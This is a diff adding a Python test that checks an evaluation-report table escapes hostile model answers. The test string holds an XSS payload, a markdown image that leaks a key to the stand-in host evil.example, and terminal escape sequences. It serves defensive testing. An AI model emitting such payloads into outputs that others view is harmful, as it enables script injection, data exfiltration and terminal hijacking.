@@ -319,6 +319,20 @@ def test_evaluation_report_shows_counts_as_whole_numbers() -> None:
     assert "| PASS | at least 5 questions | 5 | 5 questions |" in _table(["", "gate", "value", "detail"], _gate_rows([gate]))
 
 
+def test_evaluation_report_shows_hostile_answers_as_text() -> None:
+    """An answer (or a question, a corpus text) is the model's and the data's: its '<!--' hid the rest of the report,
+    its HTML ran in a viewer that renders HTML, its markdown image loaded an attacker's address when the report was
+    opened, and its terminal escapes reached whoever ran cat on the file."""
+    from workbench.promotion._report import _table
+
+    answer = "Sure <!-- <img src=x onerror=alert(1)> ![x](https://evil.example/?q=key) [y][1] \x1b]0;pwned\x07 \x1b[2J"
+    table = _table(["case_id", "answer"], [["q\x1b[31m1", answer]])
+    row = table.splitlines()[2]
+    assert "<" not in row and "\x1b" not in row and "\x07" not in row and "](" not in row.replace("\\](", ""), row
+    assert "&lt;!-- &lt;img src=x onerror=alert(1)>" in row and "![x\\](https://evil.example/?q=key)" in row
+    assert row.startswith("| q\\x1b[31m1 | Sure ") and "\\x1b]0;pwned\\x07" in row
+
+
 def test_the_report_of_a_run_with_failed_questions_shows_their_errors_first(tmp_path: Path, deploy_repo: Path) -> None:
     """A promotion that overrode 'every question answered' exported a report whose failed questions had an empty answer
     and no error, somewhere in the table (past the first 50 rows, not at all)."""
